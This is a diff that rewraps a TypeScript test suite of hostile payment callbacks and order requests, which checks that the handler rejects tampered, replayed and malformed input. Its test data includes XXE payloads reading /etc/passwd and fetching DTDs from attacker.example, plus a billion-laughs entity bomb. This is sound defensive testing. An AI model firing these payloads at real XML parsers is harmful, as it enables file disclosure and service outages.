@@ -65,7 +65,11 @@ const callbackCases: Case[] = [
   ['signed with another key (HMAC-SHA256)', resigned(fields(), OTHER_KEY), SIG],
   ['signed with another key (MD5)', resigned(fields(), OTHER_KEY, 'MD5'), SIG],
   ['signed with our key as MD5 for an HMAC order', resigned(fields(), TEST_MERCHANT.apiKey, 'MD5'), /signed with MD5/],
-  ['declares sign_type MD5, MD5-signed, for an HMAC order', resigned(fields({ sign_type: 'MD5' }), TEST_MERCHANT.apiKey, 'MD5'), /signed with MD5/],
+  [
+    'declares sign_type MD5, MD5-signed, for an HMAC order',
+    resigned(fields({ sign_type: 'MD5' }), TEST_MERCHANT.apiKey, 'MD5'),
+    /signed with MD5/,
+  ],
   ['declares HMAC-SHA256 but carries an MD5 signature', resigned(fields({ sign_type: 'HMAC-SHA256' }), TEST_MERCHANT.apiKey, 'MD5'), SIG],
   ['unknown sign_type SHA1', resigned(fields({ sign_type: 'SHA1' })), /sign_type/],
   ['sign_type changed after signing', tampered((f) => (f.sign_type = 'MD5')), SIG],
@@ -78,7 +82,11 @@ const callbackCases: Case[] = [
   ['another mch_id, signed with our key', resigned(fields({ mch_id: '1900000109' })), /mch_id/],
   ['out_trade_no switched to another order after signing', tampered((f) => (f.out_trade_no = paid)), SIG],
   ['replay with another transaction id', tampered((f) => (f.transaction_id = '4200000000000000000000000002')), SIG],
-  ['replay of the paid order with another transaction id', buildXml({ ...parseXml(paidDocument), transaction_id: '4200000000000000000000000003' }), SIG],
+  [
+    'replay of the paid order with another transaction id',
+    buildXml({ ...parseXml(paidDocument), transaction_id: '4200000000000000000000000003' }),
+    SIG,
+  ],
   ['exact replay of an acknowledged callback', paidDocument, /OK/, 'SUCCESS'],
   ['result_code changed to FAIL after signing', tampered((f) => (f.result_code = 'FAIL')), SIG],
   ['field added after signing (coupon_fee_0)', tampered((f) => (f.coupon_fee_0 = '50')), SIG],
@@ -96,20 +104,49 @@ const callbackCases: Case[] = [
   ['no out_trade_no', tampered((f) => delete f.out_trade_no), /out_trade_no/],
   ['return_code FAIL', tampered((f) => (f.return_code = 'FAIL')), /return_code/],
   ['no return_code', tampered((f) => delete f.return_code), /return_code/],
-  ['XXE: external entity', `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><out_trade_no>&xxe;</out_trade_no>${body(buildXml(genuine))}</xml>`, /DOCTYPE|XXE/],
+  [
+    'XXE: external entity',
+    `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><out_trade_no>&xxe;</out_trade_no>${body(buildXml(genuine))}</xml>`,
+    /DOCTYPE|XXE/,
+  ],
   ['XXE: parameter entity', `<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${buildXml(genuine)}`, /DOCTYPE|XXE/],
   ['XXE: lower-case doctype', `<!doctype xml SYSTEM "http://attacker.example/x.dtd">${buildXml(genuine)}`, /DOCTYPE|XXE/],
-  ['entity expansion (billion laughs)', `<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><attach>&c;</attach></xml>`, /DOCTYPE|XXE/],
+  [
+    'entity expansion (billion laughs)',
+    `<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><attach>&c;</attach></xml>`,
+    /DOCTYPE|XXE/,
+  ],
   ['a 5 MB body', buildXml({ ...genuine, attach: 'x'.repeat(5 * 1024 * 1024) }), /limit/],
   ['just over the 64 KiB limit', buildXml({ ...genuine, attach: 'x'.repeat(64 * 1024) }), /limit/],
   ['truncated in the middle', buildXml(genuine).slice(0, 200), XML],
   ['truncated before </xml>', buildXml(genuine).slice(0, -6), XML],
-  ['nested elements', `<xml><out_trade_no><a>${pending}</a></out_trade_no>${body(buildXml(genuine))}</xml>`.replace(/<out_trade_no><!\[CDATA\[[^\]]*\]\]><\/out_trade_no>/, ''), /nested/],
+  [
+    'nested elements',
+    `<xml><out_trade_no><a>${pending}</a></out_trade_no>${body(buildXml(genuine))}</xml>`.replace(
+      /<out_trade_no><!\[CDATA\[[^\]]*\]\]><\/out_trade_no>/,
+      '',
+    ),
+    /nested/,
+  ],
   ['a field repeated', `<xml><total_fee>1</total_fee>${body(buildXml(genuine))}</xml>`, /more than once/],
   ['two roots', `${buildXml(genuine)}<xml></xml>`, XML],
-  ['another root element', buildXml(genuine).replace(/^<xml>/, '<root>').replace(/<\/xml>$/, '</root>'), /root/],
+  [
+    'another root element',
+    buildXml(genuine)
+      .replace(/^<xml>/, '<root>')
+      .replace(/<\/xml>$/, '</root>'),
+    /root/,
+  ],
   ['text beside the fields', buildXml(genuine).replace('<xml>', '<xml>hello'), /text/],
-  ['not UTF-8 (Latin-1 bytes)', Buffer.concat([Buffer.from('<xml><attach>'), Buffer.from([0xe9, 0xff, 0xfe]), Buffer.from(`</attach>${body(buildXml(genuine))}</xml>`)]), /UTF-8/],
+  [
+    'not UTF-8 (Latin-1 bytes)',
+    Buffer.concat([
+      Buffer.from('<xml><attach>'),
+      Buffer.from([0xe9, 0xff, 0xfe]),
+      Buffer.from(`</attach>${body(buildXml(genuine))}</xml>`),
+    ]),
+    /UTF-8/,
+  ],
   ['UTF-16 encoded', Buffer.from(`\ufeff${buildXml(genuine)}`, 'utf16le'), XML],
   ['a JSON body', JSON.stringify(genuine), XML],
   ['an empty body', '', /empty/],
@@ -117,12 +154,22 @@ const callbackCases: Case[] = [
   ['a form-encoded body', new URLSearchParams(genuine).toString(), XML],
   ['a NUL byte in a value', buildXml(genuine).replace('<xml>', '<xml><attach>a\u0000b</attach>'), /XML|sign/i],
   ['an HTML entity', buildXml(genuine).replace('<xml>', '<xml><attach>&nbsp;</attach>'), /sign|XML/i],
-  ['a numeric character reference in the amount', tampered((f) => (f.total_fee = '1')).replace('<total_fee><![CDATA[1]]>', '<total_fee>&#49;&#48;&#48;'), SIG],
+  [
+    'a numeric character reference in the amount',
+    tampered((f) => (f.total_fee = '1')).replace('<total_fee><![CDATA[1]]>', '<total_fee>&#49;&#48;&#48;'),
+    SIG,
+  ],
   ['a processing instruction', `<?xml-stylesheet href="http://attacker.example/x.xsl"?>${tampered((f) => (f.sign = 'C'.repeat(64)))}`, SIG],
   ['only a comment', '<!-- nothing -->', XML],
   ['an unclosed CDATA section', '<xml><sign><![CDATA[abc</sign></xml>', XML],
   ['deeply nested', `<xml>${'<a>'.repeat(5_000)}x${'</a>'.repeat(5_000)}</xml>`, /nested|XML/],
-  ['attributes on fields', buildXml(genuine).replace('<total_fee>', '<total_fee currency="USD">').replace(/<sign>.*<\/sign>/, '<sign>' + 'D'.repeat(64) + '</sign>'), SIG],
+  [
+    'attributes on fields',
+    buildXml(genuine)
+      .replace('<total_fee>', '<total_fee currency="USD">')
+      .replace(/<sign>.*<\/sign>/, '<sign>' + 'D'.repeat(64) + '</sign>'),
+    SIG,
+  ],
 ];
 
 describe(`${callbackCases.length} hostile payment callbacks`, () => {
@@ -136,7 +183,19 @@ describe(`${callbackCases.length} hostile payment callbacks`, () => {
     expect(reply.status).toBe(200);
     expect(reply.returnCode).toBe(ack ?? 'FAIL');
     expect(reply.returnMsg).toMatch(reason);
-    if (!ack) reasons.set(reply.returnMsg!.replace(/["(:].*$/, '').trim().slice(0, 48), (reasons.get(reply.returnMsg!.replace(/["(:].*$/, '').trim().slice(0, 48)) ?? 0) + 1);
+    if (!ack)
+      reasons.set(
+        reply
+          .returnMsg!.replace(/["(:].*$/, '')
+          .trim()
+          .slice(0, 48),
+        (reasons.get(
+          reply
+            .returnMsg!.replace(/["(:].*$/, '')
+            .trim()
+            .slice(0, 48),
+        ) ?? 0) + 1,
+      );
     const after = await scanTable(stack);
     if (JSON.stringify(after) !== JSON.stringify(before)) figures.ordersChanged += 1;
     expect(after).toEqual(before);
@@ -171,9 +230,21 @@ const createCases: CreateCase[] = [
   ['productId too long', { ...ok, productId: long(33) }, 'productId'],
   ['attach of 128 bytes', { ...ok, attach: long(128) }, 'attach'],
   ['attach over 127 bytes in UTF-8', { ...ok, attach: '中'.repeat(43) }, 'attach'],
-  ['sceneInfo on a NATIVE order', { ...ok, sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://shop.example.com', wap_name: 'Shop' } } }, 'sceneInfo'],
-  ['an emoji in sceneInfo wap_name', { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: '🛒' } } }, 'sceneInfo.h5_info.wap_name'],
-  ['an extra key in sceneInfo h5_info', { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: 'a', x: 1 } } }, 'sceneInfo.h5_info.x'],
+  [
+    'sceneInfo on a NATIVE order',
+    { ...ok, sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://shop.example.com', wap_name: 'Shop' } } },
+    'sceneInfo',
+  ],
+  [
+    'an emoji in sceneInfo wap_name',
+    { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: '🛒' } } },
+    'sceneInfo.h5_info.wap_name',
+  ],
+  [
+    'an extra key in sceneInfo h5_info',
+    { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Wap', wap_url: 'https://a.example', wap_name: 'a', x: 1 } } },
+    'sceneInfo.h5_info.x',
+  ],
   ['U+FFFE in the description', { ...ok, description: 'a\uFFFE' }, 'description'],
   ['attach forging a field boundary', { ...ok, attach: 'x&out_trade_no=B&total_fee=1' }, 'attach'],
   ['sceneInfo of an unknown type', { ...ok, tradeType: 'MWEB', sceneInfo: { h5_info: { type: 'Desktop' } } }, 'sceneInfo.h5_info.type'],
@@ -189,7 +260,12 @@ const createCases: CreateCase[] = [
   ['invalid JSON', '{"tradeType":', undefined, true],
   ['an empty body', '', undefined, true],
   ['an XML body', '<xml><total_fee>1</total_fee></xml>', undefined, true],
-  ['deeply nested JSON', `{"tradeType":"MWEB","totalFee":1,"description":"x","sceneInfo":${'{"h5_info":'.repeat(1000)}{}${'}'.repeat(1000)}}`, 'sceneInfo.h5_info.type', true],
+  [
+    'deeply nested JSON',
+    `{"tradeType":"MWEB","totalFee":1,"description":"x","sceneInfo":${'{"h5_info":'.repeat(1000)}{}${'}'.repeat(1000)}}`,
+    'sceneInfo.h5_info.type',
+    true,
+  ],
 ];
 
 describe(`${createCases.length} hostile order requests`, () => {
